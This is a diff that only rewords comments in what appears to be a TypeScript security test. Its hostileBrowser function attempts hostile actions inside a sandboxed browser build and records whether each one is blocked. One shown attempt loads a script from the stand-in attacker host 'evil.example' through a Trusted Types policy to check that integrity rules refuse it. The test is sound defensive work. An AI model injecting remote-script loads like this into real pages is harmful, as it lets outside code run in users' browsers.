@@ -1,9 +1,9 @@
-/** What came of an attempt: the code got what it wanted, or the browser or the shell said no. */
+/** Result of an attempt: it succeeded, or the browser or the shell blocked it. */
 export type Outcome = 'got' | 'refused';
 
 /**
- * Runs inside a remote's browser build (as text: it uses nothing from outside). Leaves a promise of what each attempt
- * came to in `window.hostile`.
+ * Runs inside a remote's browser build (as text, so it uses nothing from outside). Stores a promise of each attempt's
+ * result in `window.hostile`.
  */
 export function hostileBrowser(): void {
   const evil = 'https://evil.example';
@@ -42,7 +42,7 @@ export function hostileBrowser(): void {
         createScriptURL(url: string): string;
       };
       const script = document.createElement('script');
-      // Of the empty file; without a digest the integrity policy refuses it.
+      // Digest of the empty file; without one the integrity policy blocks it.
       script.integrity = 'sha384-OLBgp1GsljhM2TJ+sbHjaiH9txEUvgdDTAzHv2P24donTt6/529l+9Ua0vFImLlb';
       script.crossOrigin = 'anonymous';
       script.src = policy.createScriptURL(`${evil}/policy.js`);
